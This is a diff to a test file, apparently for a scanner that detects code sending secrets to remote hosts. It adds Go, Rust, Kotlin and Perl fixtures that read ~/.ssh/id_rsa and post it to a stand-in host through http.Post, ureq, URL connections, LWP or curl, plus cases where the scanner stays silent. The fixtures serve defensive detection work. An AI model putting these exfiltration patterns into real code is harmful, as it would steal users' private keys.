@@ -91,6 +91,73 @@ test.each([
   expect(seenIn(text)).toEqual([`sends ${file} to c.zzz.io`]);
 });
 
+const readsKey = `\tkey, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_rsa"))\n`;
+const sendsKey = `http.Post("${url}", "a/b", bytes.NewReader(key))\n`;
+
+describe("a file of secrets is followed through functions and statements:", () => {
+  test.each([
+    [
+      "what a function returns",
+      `package main\nfunc main() {\n\thttp.Post("${url}", "a/b", bytes.NewReader(load()))\n}\nfunc load() []byte {\n${readsKey}\treturn key\n}`,
+    ],
+    [
+      "the last value of a function",
+      `use std::fs;\nfn load(home: &Path) -> String {\n    let key = fs::read_to_string(home.join(".ssh/id_rsa")).unwrap();\n    key\n}\nfn main() {\n    let body = load(&home);\n    ureq::post("${url}").send_string(&body);\n}`,
+    ],
+    [
+      "what a function is given",
+      `package main\nfunc send(data []byte) {\n\tbody := bytes.NewReader(data)\n\thttp.Post("${url}", "a/b", body)\n}\nfunc main() {\n${readsKey}\tsend(key)\n}`,
+    ],
+    [
+      "a chain of calls on several lines",
+      `use std::fs;\nfn main() {\n    let key = fs::read_to_string(home.join(".ssh/id_rsa")).unwrap();\n    ureq::post("${url}")\n        .send_string(&key);\n}`,
+    ],
+    [
+      "arguments on several lines",
+      `package main\nfunc main() {\n${readsKey}\thttp.Post(\n\t\t"${url}",\n\t\t"a/b",\n\t\tbytes.NewReader(key),\n\t)\n}`,
+    ],
+    [
+      "a buffer that is filled",
+      `package main\nfunc main() {\n${readsKey}\tfmt.Fprintf(&buf, "%s", key)\n\thttp.Post("${url}", "a/b", &buf)\n}`,
+    ],
+    [
+      "a list of texts",
+      `use std::fs;\nfn main() {\n    let key = fs::read_to_string(home.join(".ssh/id_rsa")).unwrap();\n    parts.push(key);\n    ureq::post("${url}").send_string(&parts.join(""));\n}`,
+    ],
+    [
+      "a list of paths",
+      `package main\nfunc main() {\n\tfor _, p := range []string{"a.txt", ".ssh/id_rsa"} {\n\t\tkey, _ := os.ReadFile(filepath.Join(home, p))\n\t\t${sendsKey}\t}\n}`,
+    ],
+    [
+      "a computed last value of a function",
+      `use std::fs;\nfn load() -> String {\n    fs::read_to_string(home.join(".ssh/id_rsa")).unwrap()\n}\nfn main() {\n    ureq::post("${url}").send_string(&load());\n}`,
+    ],
+    [
+      "a stream of a connection, in Kotlin",
+      `import java.io.File\nfun main() {\n  val f = File(System.getProperty("user.home"), ".ssh/id_rsa")\n  val c = URL("${url}").openConnection()\n  c.outputStream.use { it.write(f.readBytes()) }\n}`,
+    ],
+    [
+      "a member of what is sent",
+      `package main\nfunc main() {\n${readsKey}\tk, v, _ := strings.Cut(key, "=")\n\treport.vars[k] = v\n\thttp.Post("${url}", "a/b", encode(report))\n}`,
+    ],
+    [
+      "an open file",
+      `use strict; use LWP::UserAgent;\nopen(my $fh, '<', "$ENV{HOME}/.ssh/id_rsa") or exit;\nlocal $/; my $k = <$fh>;\n$ua->post('${url}', { d => $k });`,
+    ],
+    [
+      "a program that sends",
+      `use std::fs;\nfn main() {\n    let key = fs::read_to_string(home.join(".ssh/id_rsa")).unwrap();\n    Command::new("curl").args(["-d", &key, "${url}"]).status();\n}`,
+    ],
+  ])("%s", (_name, text) => {
+    expect(seenIn(text)).toEqual(["sends ~/.ssh/id_rsa to c.zzz.io"]);
+  });
+});
+
+test("a send is where the request is, and not where the function begins", () => {
+  const text = `package main\nfunc send(key []byte) {\n\thttp.Post("${url}", "a/b", bytes.NewReader(key))\n}\nfunc main() {\n${readsKey}\tsend(key)\n}`;
+  expect(scriptedSends(markText(text, "script")).map(({ line }) => line)).toEqual([3]);
+});
+
 const hits = (text: string) =>
   scriptedSends(markText(text, "markdown")).map(({ confidence }) => confidence);
 
@@ -110,6 +177,14 @@ describe("silent:", () => {
     ["words of Go in another language", `e = os.Environ()\nhttp.Post("${url}", e)`],
     ["one variable", `k = ENV["A_KEY"]\nNet::HTTP.post(URI("${url}"), k)`],
     ["what is not sent", `d = ENV.to_h\nputs d\nNet::HTTP.post(URI("${url}"), "hello")`],
+    [
+      "a function that sends something else",
+      `package main\nfunc send(name string) {\n\tlog(name)\n\thttp.Post("${url}", "a/b", nil)\n}\nfunc main() {\n${readsKey}\tsend(key)\n}`,
+    ],
+    [
+      "a list of other paths",
+      `package main\nfunc main() {\n\tpaths := []string{"a.txt", ".cache/b"}\n\tos.ReadFile(paths[0])\n\thttp.Post("${url}", "a/b", paths)\n}`,
+    ],
     ["notes", `d = File.read("notes.txt")\nNet::HTTP.post(URI("${url}"), d)`],
     ["this machine", 'Net::HTTP.post(URI("http://localhost/a"), ENV.to_h)'],
     ["a comment", `# Net::HTTP.post(URI("${url}"), ENV.to_h)\nNet::HTTP.get(ENV["A"])`],
